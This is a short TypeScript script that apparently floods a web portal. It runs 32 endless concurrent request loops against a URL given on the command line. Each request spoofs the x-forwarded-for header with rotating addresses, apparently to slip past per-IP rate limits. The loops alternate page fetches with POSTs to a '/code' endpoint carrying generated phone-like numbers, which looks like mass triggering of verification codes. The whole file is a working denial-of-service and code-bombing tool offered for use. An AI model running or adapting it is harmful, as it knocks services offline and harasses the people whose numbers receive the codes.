import { constants, setPriority } from 'node:os'

/** Asks a portal for pages and codes as fast as it can, from many sides, until it is ended. */
setPriority(constants.priority.PRIORITY_LOW)
const url = process.argv[2] ?? ''
const form = (n: number) =>
  new URLSearchParams({ number: `06100${String(n % 100_000).padStart(5, '0')}` })

async function ask(side: number): Promise<void> {
  for (let n = side; ; n += 31) {
    const headers = { 'x-forwarded-for': `10.${n % 200}.${(n >> 3) % 200}.${side}` }
    const what = n % 2 === 0 ? { method: 'POST', body: form(n) } : {}
    const answer = await fetch(`${url}${n % 2 === 0 ? '/code' : '/'}`, { headers, ...what }).catch(
      () => undefined,
    )
    await answer?.arrayBuffer()
  }
}

await Promise.all(Array.from({ length: 32 }, (_, side) => ask(side)))
